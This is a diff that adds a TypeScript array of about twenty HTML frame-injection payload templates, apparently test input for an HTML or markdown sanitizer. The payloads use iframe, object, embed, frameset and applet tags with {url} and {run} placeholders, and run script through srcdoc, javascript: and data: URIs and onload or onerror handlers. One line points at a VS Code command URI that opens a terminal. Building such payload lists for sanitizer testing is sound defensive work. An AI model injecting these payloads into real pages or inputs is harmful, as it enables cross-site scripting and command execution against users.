@@ -1,0 +1,23 @@
+/** Pages within the page. */
+export const frames: readonly string[] = [
+  '<iframe src="{url}"></iframe>',
+  '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
+  '<iframe srcdoc="&lt;img src={url}&gt;"></iframe>',
+  '<iframe src="javascript:parent.{run}"></iframe>',
+  '<iframe src="data:text/html,<script>parent.{run}</script>"></iframe>',
+  '<iframe onload={run}></iframe>',
+  '<iframe src="command:workbench.action.terminal.new"></iframe>',
+  '<iframe name=top srcdoc="<base target=_parent>"></iframe>',
+  '<frameset onload={run}><frame src="{url}"></frameset>',
+  '<object data="{url}"></object>',
+  '<object data="javascript:{run}"></object>',
+  '<object type="text/html" data="data:text/html,<script>{run}</script>"></object>',
+  '<object><param name=movie value="{url}"><embed src="{url}"></object>',
+  '<embed src="{url}">',
+  '<embed type="image/svg+xml" src="data:image/svg+xml,<svg onload={run} xmlns=\'http://www.w3.org/2000/svg\'/>">',
+  '<applet code=A codebase="{url}"></applet>',
+  '<portal src="{url}"></portal><fencedframe></fencedframe>',
+  '<noframes><iframe src="{url}"></noframes>',
+  '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<img src=x onerror=parent.{run}>">',
+  '> <iframe src="{url}"></iframe>',
+];
